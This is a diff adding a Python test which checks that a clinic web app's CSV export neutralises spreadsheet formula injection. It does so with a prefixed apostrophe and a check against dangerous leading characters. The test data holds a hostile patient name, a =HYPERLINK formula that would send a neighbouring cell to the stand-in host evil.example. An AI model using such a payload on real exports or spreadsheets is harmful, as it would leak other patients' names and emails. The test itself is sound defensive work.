@@ -433,3 +433,16 @@ def test_a_served_app_keeps_its_start_up_objects_out_of_the_collectors_way(tmp_p
     assert done.returncode == 0, done.stderr
     default, tuned, frozen = map(int, done.stdout.split())
     assert (default, tuned) == (700, YOUNG_OBJECTS_BEFORE_COLLECTING) and frozen > 10_000
+
+
+def test_the_clinic_export_never_hands_a_spreadsheet_a_formula(database_url: str) -> None:
+    """A patient named like a formula is written as text beside the others' names and emails."""
+    app = create_app(database_url, multi_user=True)
+    accounts = Accounts(open_store(database_url).engine)
+    doc = accounts.create("doc@example.org", Role.CLINICIAN, "Dr Doc", PASSWORD)
+    name = '=HYPERLINK("http://evil.example/?"&C3,"Open")'
+    eve = _patient(accounts, doc.id, "eve@example.org", name)
+    open_store(database_url).for_person(eve).start_session(date.today(), {"items": []}, None)
+    rows = list(csv.reader(io.StringIO(_signed_in_as(app, accounts, doc.id).get("/clinic/export.csv").text)))
+    assert rows[1][1] == "'" + name, "shown as typed, after the apostrophe that keeps it text"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
